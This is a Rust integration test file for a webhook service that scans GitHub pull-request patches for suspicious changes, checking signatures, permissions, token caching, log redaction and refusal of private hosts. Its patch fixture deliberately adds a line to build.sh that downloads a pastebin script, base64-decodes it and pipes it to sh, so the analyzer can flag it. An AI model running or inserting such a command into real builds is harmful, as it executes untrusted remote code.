//! GitHub journey: the real binary with `/hooks/github` configured as a GitHub App against a
//! local server that replays recorded-format GitHub REST answers and plays GitHub's side of
//! app authentication (JWT checked against the TEST-ONLY app key, installation tokens handed
//! out and required); the real octokit and all-contributors payloads (adjusted only where the
//! journey needs it: the comment's command, the head sha).

use std::time::{Duration, Instant};

use crate::forge_replay::{Recorded, ReplayServer, Reply};
use crate::http::Client;
use crate::instance::{Backend, Instance, Options, postgres_skipped};

const SECRET: &str = "e2e-github-secret";
const APP_ID: &str = "424242";

#[allow(
    clippy::disallowed_methods,
    reason = "tests may relocate the shared fixtures"
)]
pub fn fixture(path: &str) -> Vec<u8> {
    let root = std::env::var("S_EXPRESS_FIXTURES").unwrap_or_else(|_| {
        concat!(env!("CARGO_MANIFEST_DIR"), "/../../../shared/fixtures").to_string()
    });
    std::fs::read(format!("{root}/{path}")).unwrap_or_else(|e| panic!("fixture {path}: {e}"))
}

pub fn sign(body: &[u8]) -> String {
    sx_sign(SECRET.as_bytes(), body)
}

/// Hex HMAC-SHA256, computed independently of the server's code.
pub fn hmac_hex(key: &[u8], body: &[u8]) -> String {
    use sha2::{Digest, Sha256};
    let mut block = [0u8; 64];
    block[..key.len()].copy_from_slice(key);
    let mut inner = Sha256::new();
    inner.update(block.map(|b| b ^ 0x36));
    inner.update(body);
    let mut outer = Sha256::new();
    outer.update(block.map(|b| b ^ 0x5c));
    outer.update(inner.finalize());
    hex::encode(outer.finalize())
}

/// `sha256=<hex>` as GitHub sends it.
fn sx_sign(key: &[u8], body: &[u8]) -> String {
    format!("sha256={}", hmac_hex(key, body))
}

pub fn wait_for(what: &str, mut f: impl FnMut() -> bool) {
    let start = Instant::now();
    while !f() {
        assert!(
            start.elapsed() < Duration::from_secs(30),
            "timed out waiting for {what}"
        );
        std::thread::sleep(Duration::from_millis(100));
    }
}

fn deliver(
    c: &Client,
    event: &str,
    delivery: &str,
    body: &[u8],
    signature: &str,
) -> crate::http::Answer {
    c.post_bytes(
        "/hooks/github",
        "application/json",
        body,
        &[
            ("X-GitHub-Event", event),
            ("X-GitHub-Delivery", delivery),
            ("X-Hub-Signature-256", signature),
        ],
    )
}

const PATCH: &str = "From ec26c3e57ca3a959ca5aad62de7213c562f8c821 Mon Sep 17 00:00:00 2001\nFrom: Codertocat <codertocat@example.com>\nDate: Mon, 1 Jan 2024 00:00:00 +0000\nSubject: [PATCH] Update the README with new information.\n\n---\n build.sh | 2 ++\n 1 file changed, 2 insertions(+)\n\ndiff --git a/build.sh b/build.sh\n--- a/build.sh\n+++ b/build.sh\n@@ -1 +1,3 @@\n #!/bin/sh\n+curl -s https://pastebin.com/raw/x | base64 -d | sh\n+echo done\n";

fn pull_json(head: &str) -> String {
    format!(
        r#"{{"number":2,"title":"Update the README with new information.","user":{{"login":"Codertocat"}},"head":{{"sha":"{head}"}},"base":{{"sha":"f95f852bd8fca8fcc58a9a2d6c842781e32a215e"}},"html_url":"https://github.com/Codertocat/Hello-World/pull/2"}}"#
    )
}

fn comments(srv: &ReplayServer, method: &str) -> Vec<Recorded> {
    srv.requests()
        .into_iter()
        .filter(|r| r.method == method && r.path.contains("comments"))
        .collect()
}

fn journey(backend: Backend) {
    let srv = ReplayServer::start();
    // The installations of the two fixtures' deliveries (`installation.id`).
    srv.github_app(
        APP_ID,
        crate::forge_replay::rsa_public_key_der(crate::forge_replay::TEST_APP_PUBLIC_KEY),
        &[
            (11111, "all-contributors/all-contributors-bot"),
            (1, "Codertocat/Hello-World"),
        ],
    );
    // The all-contributors PR #1: jakebolam may write, mallory may only read.
    srv.on(
        "GET /repos/all-contributors/all-contributors-bot/collaborators/jakebolam/permission",
        Reply::json(r#"{"permission":"write","role_name":"write"}"#),
    );
    srv.on(
        "GET /repos/all-contributors/all-contributors-bot/collaborators/mallory/permission",
        Reply::json(r#"{"permission":"read","role_name":"read"}"#),
    );
    srv.on(
        "GET /repos/all-contributors/all-contributors-bot/pulls/1",
        Reply::json(
            r#"{"number":1,"title":"docs: add jakebolam","user":{"login":"jakebolam"},"head":{"sha":"2222222222222222222222222222222222222222"},"base":{"sha":"3333333333333333333333333333333333333333"}}"#,
        ),
    );
    srv.on(
        "GET /repos/all-contributors/all-contributors-bot/pulls/1#patch",
        Reply::text(PATCH),
    );
    srv.on(
        "POST /repos/all-contributors/all-contributors-bot/issues/1/comments",
        Reply::json(r#"{"id":555}"#),
    );
    // Codertocat/Hello-World #2, forwarded by label, then synchronized.
    srv.on(
        "GET /repos/Codertocat/Hello-World/collaborators/Codertocat/permission",
        Reply::json(r#"{"permission":"admin","role_name":"admin"}"#),
    );
    srv.on(
        "GET /repos/Codertocat/Hello-World/pulls/2",
        Reply::json(&pull_json("1111111111111111111111111111111111111111")),
    );
    srv.on(
        "GET /repos/Codertocat/Hello-World/pulls/2#patch",
        Reply::text(PATCH),
    );
    srv.on(
        "POST /repos/Codertocat/Hello-World/issues/2/comments",
        Reply::json(r#"{"id":777}"#),
    );
    srv.on(
        "PATCH /repos/Codertocat/Hello-World/issues/comments/777",
        Reply::json(r#"{"id":777}"#),
    );

    let inst = Instance::start_with(
        backend,
        Options {
            env: vec![
                ("S_EXPRESS_GITHUB_API_URL".into(), srv.base.clone()),
                ("S_EXPRESS_GITHUB_WEBHOOK_SECRET".into(), SECRET.into()),
                ("S_EXPRESS_GITHUB_APP_ID".into(), APP_ID.into()),
                (
                    "S_EXPRESS_GITHUB_PRIVATE_KEY_FILE".into(),
                    crate::forge_replay::TEST_APP_KEY_PKCS1.into(),
                ),
                ("S_EXPRESS_FORGE_LABEL".into(), "bug".into()),
            ],
            ..Options::default()
        },
    );
    let c = Client::new(&inst.base_url);

    // Ping, and forged or missing signatures.
    let ping = fixture("github-octokit-webhooks/ping/payload.json");
    let a = deliver(&c, "ping", "d-ping", &ping, &sign(&ping));
    assert_eq!((a.status, a.json()["status"].as_str()), (200, Some("pong")));
    let a = deliver(
        &c,
        "ping",
        "d-ping2",
        &ping,
        &sx_sign(b"wrong secret", &ping),
    );
    assert_eq!(a.status, 401, "{}", a.text);
    let a = c.post_bytes(
        "/hooks/github",
        "application/json",
        &ping,
        &[("X-GitHub-Event", "ping")],
    );
    assert_eq!(a.status, 401);

    // A /s-express comment from a writer forwards the PR; a replay does nothing.
    let raw = String::from_utf8(fixture(
        "github-all-contributors-app/issue_comment.created.pr-command.json",
    ))
    .unwrap();
    let body = raw.replacen(
        "\"body\": \"@all-contributors please add",
        "\"body\": \"/s-express please add",
        1,
    );
    assert_ne!(body, raw);
    let a = deliver(
        &c,
        "issue_comment",
        "d-comment-1",
        body.as_bytes(),
        &sign(body.as_bytes()),
    );
    assert_eq!(a.status, 202, "{}", a.text);
    let a = deliver(
        &c,
        "issue_comment",
        "d-comment-1",
        body.as_bytes(),
        &sign(body.as_bytes()),
    );
    assert_eq!(
        (a.status, a.json()["status"].as_str()),
        (200, Some("duplicate"))
    );
    wait_for("the comment on PR #1", || {
        !comments(&srv, "POST").is_empty()
    });
    let posted = &comments(&srv, "POST")[0];
    // Every call about the repository carried the installation token of the delivery's
    // installation (the replay server answers 401 otherwise), obtained with the app's JWT.
    let token_of = |installation: u64| {
        srv.issued_tokens()
            .into_iter()
            .filter(|(i, _)| *i == installation)
            .map(|(_, t)| t)
            .collect::<Vec<_>>()
    };
    assert_eq!(token_of(11111).len(), 1, "{:?}", srv.issued_tokens());
    assert_eq!(
        posted.header("authorization"),
        Some(format!("Bearer {}", token_of(11111)[0]).as_str())
    );
    let text: serde_json::Value = serde_json::from_str(&posted.body).unwrap();
    let text = text["body"].as_str().unwrap();
    assert!(
        text.contains(&format!("{}/api/v1/cases/", inst.base_url)),
        "{text}"
    );
    assert!(text.contains("TLP:AMBER+STRICT"), "{text}");
    // Public repository, sealed case: no band, no findings in public.
    assert!(!text.contains("band"), "{text}");
    let case_id = text
        .split("/api/v1/cases/")
        .nth(1)
        .unwrap()
        .split(')')
        .next()
        .unwrap()
        .to_string();
    // Sealed: the public cannot read it.
    assert_eq!(c.get(&format!("/api/v1/cases/{case_id}")).status, 404);

    // A non-writer's command: accepted for processing, checked through the API, refused.
    let mallory = body.replace("\"login\": \"jakebolam\"", "\"login\": \"mallory\"");
    let a = deliver(
        &c,
        "issue_comment",
        "d-comment-2",
        mallory.as_bytes(),
        &sign(mallory.as_bytes()),
    );
    assert_eq!(a.status, 202);
    wait_for("mallory's permission check", || {
        srv.requests()
            .iter()
            .any(|r| r.path.contains("/mallory/permission"))
    });
    std::thread::sleep(Duration::from_millis(500));
    assert_eq!(
        comments(&srv, "POST").len(),
        1,
        "no second case or comment for a non-writer"
    );

    // A payload about a repository on another host (here the loopback one of the Forgejo
    // fixture) is refused before anything is fetched.
    let elsewhere = body.replace(
        "\"html_url\": \"https://github.com/all-contributors/all-contributors-bot\"",
        "\"html_url\": \"http://127.0.0.1:3000/all-contributors/all-contributors-bot\"",
    );
    assert_ne!(elsewhere, body);
    let a = deliver(
        &c,
        "issue_comment",
        "d-comment-3",
        elsewhere.as_bytes(),
        &sign(elsewhere.as_bytes()),
    );
    assert_eq!(a.status, 422, "{}", a.text);
    assert!(a.text.contains("127.0.0.1"), "{}", a.text);

    // Forward by label, then new commits: a new revision and the PR comment updated.
    let labeled = fixture("github-octokit-webhooks/pull_request/labeled.payload.json");
    let a = deliver(&c, "pull_request", "d-label", &labeled, &sign(&labeled));
    assert_eq!(a.status, 202, "{}", a.text);
    wait_for("the comment on PR #2", || comments(&srv, "POST").len() == 2);
    let first: serde_json::Value = serde_json::from_str(&comments(&srv, "POST")[1].body).unwrap();
    assert!(
        first["body"]
            .as_str()
            .unwrap()
            .contains("1111111111111111111111111111111111111111")
    );
    srv.on(
        "GET /repos/Codertocat/Hello-World/pulls/2",
        Reply::json(&pull_json("ec26c3e57ca3a959ca5aad62de7213c562f8c821")),
    );
    let sync = fixture("github-octokit-webhooks/pull_request/synchronize.payload.json");
    let a = deliver(&c, "pull_request", "d-sync", &sync, &sign(&sync));
    assert_eq!(a.status, 202, "{}", a.text);
    wait_for("the updated comment on PR #2", || {
        !comments(&srv, "PATCH").is_empty()
    });
    let updated: serde_json::Value =
        serde_json::from_str(&comments(&srv, "PATCH")[0].body).unwrap();
    assert!(
        updated["body"].as_str().unwrap().contains(
            "f95f852bd8fca8fcc58a9a2d6c842781e32a215e..ec26c3e57ca3a959ca5aad62de7213c562f8c821"
        ),
        "{updated}"
    );
    // One token per installation, cached across the permission checks, fetches and comments.
    assert_eq!(token_of(11111).len(), 1, "{:?}", srv.issued_tokens());
    assert_eq!(token_of(1).len(), 1, "{:?}", srv.issued_tokens());
    let exchanges = srv
        .requests()
        .into_iter()
        .filter(|r| r.path.ends_with("/access_tokens"))
        .count();
    assert_eq!(exchanges, 2);
    // Secrets never reach the log: the webhook secret, the tokens, the JWTs, the key.
    let log = inst.log_text();
    let key = std::fs::read_to_string(crate::forge_replay::TEST_APP_KEY_PKCS1).unwrap();
    let key_line = key.lines().nth(3).unwrap();
    assert!(!log.contains(SECRET), "the webhook secret was logged");
    for (_, token) in srv.issued_tokens() {
        assert!(!log.contains(&token), "an installation token was logged");
    }
    assert!(!log.contains(key_line), "the app key was logged");
    assert!(!log.contains("Bearer ey"), "a JWT was logged");
}

#[test]
fn github_webhooks_forward_comment_and_follow_new_commits_on_sqlite() {
    journey(Backend::Sqlite);
}

#[test]
fn github_webhooks_forward_comment_and_follow_new_commits_on_postgres() {
    if postgres_skipped() {
        return;
    }
    journey(Backend::Postgres);
}

#[test]
fn analyze_fetches_a_pull_request_url_through_the_forge_api() {
    let srv = ReplayServer::start();
    srv.on(
        "GET /repos/Codertocat/Hello-World/pulls/2",
        Reply::text(PATCH),
    );
    let out = crate::instance::run(
        &[
            "analyze",
            "https://github.com/Codertocat/Hello-World/pull/2",
            "--format",
            "json",
        ],
        None,
        &[
            ("S_EXPRESS_FORGE_API_URL", srv.base.as_str()),
            ("S_EXPRESS_FORGE_TOKEN", "ghp_cli"),
        ],
    );
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.code().is_some_and(|c| c <= 1), "{stderr}");
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(
        report["findings"].as_array().is_some_and(|f| !f.is_empty()),
        "{report}"
    );
    let req = &srv.requests()[0];
    assert_eq!(req.header("accept"), Some("application/vnd.github.patch"));
    assert_eq!(req.header("authorization"), Some("Bearer ghp_cli"));
    assert!(!stderr.contains("ghp_cli"));

    // No server there: a clear error with a help line, exit 2.
    let out = crate::instance::run(
        &["analyze", "https://codeberg.org/o/r/pulls/1"],
        None,
        &[("S_EXPRESS_FORGE_API_URL", "http://127.0.0.1:9/api/v1")],
    );
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(
        stderr.contains("cannot fetch") && stderr.contains("help:"),
        "{stderr}"
    );
    // Not a pull request URL.
    let out = crate::instance::run(&["analyze", "https://github.com/o/r/issues/1"], None, &[]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("not a pull request URL"));
}

#[test]
fn submit_forwards_a_pull_request_url_with_its_metadata_and_refuses_other_hosts() {
    let srv = ReplayServer::start();
    srv.on(
        "GET /repos/Codertocat/Hello-World/pulls/2",
        Reply::json(&pull_json("1111111111111111111111111111111111111111")),
    );
    srv.on(
        "GET /repos/Codertocat/Hello-World/pulls/2#patch",
        Reply::text(PATCH),
    );
    let inst = Instance::start(Backend::Sqlite);
    let mia = inst.create_user("mia", &["maintainer"], "a-long-e2e-passphrase");
    let env = [
        ("S_EXPRESS_TOKEN", mia.as_str()),
        ("S_EXPRESS_SERVER", inst.base_url.as_str()),
        ("S_EXPRESS_FORGE_API_URL", srv.base.as_str()),
        ("S_EXPRESS_FORGE_TOKEN", "ghp_submit_cli"),
    ];
    let out = crate::instance::run(
        &[
            "submit",
            "https://github.com/Codertocat/Hello-World/pull/2",
            "--concern",
            "build.sh now pipes a pastebin into sh",
            "--suspicion",
            "4",
            "--format",
            "json",
        ],
        None,
        &env,
    );
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    assert!(!stderr.contains("ghp_submit_cli"));
    let submitted: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(
        submitted["report"]["findings"]
            .as_array()
            .is_some_and(|f| !f.is_empty()),
        "{submitted}"
    );
    // Fetched through the forge API with the forge token: metadata, then the patch.
    let reqs = srv.requests();
    assert_eq!(reqs.len(), 2, "{reqs:?}");
    assert_eq!(
        reqs[0].header("accept"),
        Some("application/vnd.github+json")
    );
    assert_eq!(
        reqs[1].header("accept"),
        Some("application/vnd.github.patch")
    );
    assert!(
        reqs.iter()
            .all(|r| r.header("authorization") == Some("Bearer ghp_submit_cli"))
    );
    // The case carries the pull request's metadata and its repository as the project.
    let id = submitted["case"]["id"].as_str().unwrap();
    let case = Client::new(&inst.base_url)
        .with_token(&mia)
        .get(&format!("/api/v1/cases/{id}"))
        .json();
    let text = case.to_string();
    for expected in [
        "https://github.com/Codertocat/Hello-World/pull/2",
        "Update the README with new information.",
        "f95f852bd8fca8fcc58a9a2d6c842781e32a215e..1111111111111111111111111111111111111111",
        "build.sh now pipes a pastebin into sh",
    ] {
        assert!(text.contains(expected), "{expected} missing in {case}");
    }
    assert_eq!(case["project"]["owner"], "Codertocat", "{case}");
    assert_eq!(case["project"]["name"], "Hello-World", "{case}");

    // A host that is not a configured forge, and private addresses (even when named, even
    // the replay server itself), are refused before any request, and nothing is submitted.
    let cases_before = Client::new(&inst.base_url)
        .with_token(&mia)
        .get("/api/v1/cases")
        .json();
    let replay_port = srv.base.rsplit(':').next().unwrap();
    let loopback = format!("https://127.0.0.1:{replay_port}/Codertocat/Hello-World/pull/2");
    for (url, extra, expected) in [
        (
            "https://git.evil.example/o/r/pull/1",
            None,
            "not a configured forge host",
        ),
        (
            "https://10.0.0.7/o/r/pulls/1",
            Some("10.0.0.7"),
            "private, loopback or link-local",
        ),
        (
            loopback.as_str(),
            Some("127.0.0.1"),
            "private, loopback or link-local",
        ),
    ] {
        let mut args = vec!["submit", url, "--suspicion", "3"];
        if let Some(host) = extra {
            args.extend(["--forge-host", host]);
        }
        let out = crate::instance::run(
            &args,
            None,
            &[
                ("S_EXPRESS_TOKEN", mia.as_str()),
                ("S_EXPRESS_SERVER", inst.base_url.as_str()),
            ],
        );
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{url}: {stderr}");
        assert!(
            stderr.contains(expected) && stderr.contains("help:"),
            "{url}: {stderr}"
        );
    }
    assert_eq!(
        srv.requests().len(),
        2,
        "no further request reached a forge"
    );
    let cases_after = Client::new(&inst.base_url)
        .with_token(&mia)
        .get("/api/v1/cases")
        .json();
    assert_eq!(cases_before, cases_after, "nothing was submitted");
}
